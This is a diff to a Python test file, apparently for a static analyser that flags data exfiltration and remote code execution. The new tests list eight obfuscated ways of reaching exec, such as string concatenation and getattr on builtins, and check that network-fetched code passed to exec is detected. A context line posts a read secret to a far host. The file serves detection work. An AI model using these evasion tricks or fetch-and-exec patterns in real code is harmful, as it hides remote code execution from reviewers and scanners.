@@ -419,3 +419,21 @@ def test_a_secret_behind_many_members_is_still_sent():
     many = "[" + "'x', " * 300 + "]"
     found = acts_of(IMPORTS + f"requests.post({FAR}, json={many} + [{READ}])")
     assert holds(found, "connect", {"SentData": KEY})
+
+
+@pytest.mark.parametrize(
+    "reached",
+    [
+        "getattr(__builtins__, 'ex' + 'ec')",
+        "getattr(builtins, 'ex' + 'ec')",
+        "__builtins__['ex' + 'ec']",
+        "__builtins__.__dict__['exec']",
+        "vars(builtins)['exec']",
+        "globals()['__builtins__']['exec']",
+        "importlib.import_module('built' + 'ins').exec",
+        "__import__('builtins').exec",
+    ],
+)
+def test_a_builtin_is_known_however_it_is_reached(reached):
+    found = acts_of(f"import requests, builtins, importlib\n{reached}(requests.get({FAR}).text)\n")
+    assert any(act.kind == "exec" and act.fields.get("PipedFrom") == "requests" for act in found)
